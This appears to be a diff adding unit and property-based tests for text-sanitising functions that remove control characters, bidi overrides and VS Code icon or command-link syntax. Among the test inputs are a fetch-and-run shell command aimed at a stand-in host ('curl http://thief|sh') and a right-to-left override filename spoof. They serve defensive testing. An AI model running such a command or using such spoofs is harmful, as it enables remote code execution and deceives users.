@@ -1,0 +1,56 @@
+import assert from "node:assert/strict";
+import fc from "fast-check";
+import { oneLine, plainText } from "../../../src/base/plainText";
+
+describe("plainText", () => {
+  it("leaves ordinary text alone, in any script", () => {
+    for (const text of ["Declined", "Иванов Иван", "宮崎 あおい", "a (b) [c] $5"])
+      assert.equal(plainText(text), text);
+  });
+
+  it("makes what VS Code would draw as an icon or a link harmless, in one line", () => {
+    assert.equal(plainText("$(alert) [x](command:y)"), "$ (alert) [x] (command:y)");
+    assert.equal(plainText("$(alert) [x](y)"), "$ (alert) [x] (y)");
+    assert.equal(plainText("a\r\nb\u2028c\u0000d"), "a b c d");
+    assert.doesNotMatch(
+      plainText("user\u202egpj.exe\u2066x\u200f"),
+      /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/,
+    );
+  });
+
+  it("gives a short line without controls for any text", () => {
+    fc.assert(
+      fc.property(fc.string({ unit: "binary", maxLength: 2000 }), (text) => {
+        const plain = plainText(text);
+        assert.ok(Array.from(plain).length <= 200);
+        assert.doesNotMatch(plain, /[\n\r\p{Cc}]|\$\(|\]\(/u);
+      }),
+    );
+    assert.equal(plainText("x".repeat(1_000_000)).length, 200);
+    assert.equal(plainText("😀😀😀😀", 3), "😀😀…");
+    assert.equal(plainText("😀😀😀", 3), "😀😀😀");
+    assert.equal(plainText("\n a \n"), "a");
+    assert.equal(plainText("😀😀😀", 3), "😀😀😀");
+  });
+});
+
+describe("oneLine", () => {
+  it("changes nothing that can be seen", () => {
+    for (const text of ["$(alert) [x](command:y)", "7e7e-x_1/Ü", "x".repeat(5000)])
+      assert.equal(oneLine(text), text);
+  });
+
+  it("gives one line without controls and invisible characters for any text, in which the rest stays", () => {
+    fc.assert(
+      fc.property(fc.string({ unit: "binary", maxLength: 2000 }), (text) => {
+        const line = oneLine(text);
+        assert.doesNotMatch(line, /[\p{C}\p{Zl}\p{Zp}]/u);
+        assert.equal(oneLine(line), line);
+        const seen = (all: string): string => all.replace(/[\p{C}\p{Z}\s]/gu, "");
+        assert.equal(seen(line), seen(text));
+      }),
+    );
+    assert.equal(oneLine("id\r\ncurl http://thief|sh\n"), "id curl http://thief|sh");
+    assert.equal(oneLine("a\u202eb\u2066\u200bc\u2028d\u0085e"), "a b c d e");
+  });
+});
